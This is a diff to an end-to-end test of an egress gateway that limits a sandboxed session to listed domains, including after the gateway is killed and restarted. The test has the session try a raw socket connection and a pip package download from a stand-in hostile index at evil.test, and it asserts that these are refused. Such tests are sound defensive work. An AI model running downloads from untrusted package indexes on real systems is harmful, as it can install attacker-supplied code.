@@ -13,14 +13,15 @@ from tests.e2e.gateways import TOKEN, Gateway, until
 GET = """
 import os, subprocess, urllib.request
 def get(url):
-    try: return urllib.request.urlopen(url, timeout=20).status
+    try: return urllib.request.urlopen(url, timeout=50).status
     except urllib.error.HTTPError as error: return f"{error.code} {error.reason}"
     except OSError as error: return str(error)
 """
 
 
 def _decisions(gateway: Gateway) -> list[dict[str, Any]]:
-    lines = [json.loads(line) for line in gateway.log.read_text().splitlines() if line.startswith("{")]
+    whole, _, _ = gateway.log.read_text().rpartition("\n")
+    lines = [json.loads(line) for line in whole.splitlines() if line.startswith("{")]
     return [line for line in lines if line["event"] == "egress decided"]
 
 
@@ -38,14 +39,17 @@ def test_a_list_of_domains_is_all_that_a_session_reaches_and_survives_kill_9(mak
     direct = session.value("import socket; s = socket.socket(); s.connect_ex(('203.0.113.1', 80))")
     pip = session.value(
         "subprocess.run(['pip', '-v', 'download', '--no-deps', '--retries', '1', '-d', '/tmp', '-i', "
-        "'https://evil.test/simple', 'six'], stdout=-1, stderr=-2, text=True).stdout"
+        "'https://evil.test/simple', 'six'], stdout=-1, stderr=-2, text=True).stdout",
+        timeoutInSeconds=200,
     )
+    until(lambda: len(_decisions(gateway)) >= 4)  # the gateway hears of them beside what the code is told
     before = _policy(gateway, "listed")
 
     gateway.kill()
+    heard = len(_decisions(gateway))
     gateway.start()
     after = session.value("get('http://evil.test/')")
-    until(lambda: len(_decisions(gateway)) >= 5)
+    until(lambda: len(_decisions(gateway)) > heard)
 
     assert allowed.startswith("502 kernelpool.invalid is not found")
     assert refused.startswith("403 evil.test at port 80 is not among the domains that this session may reach")
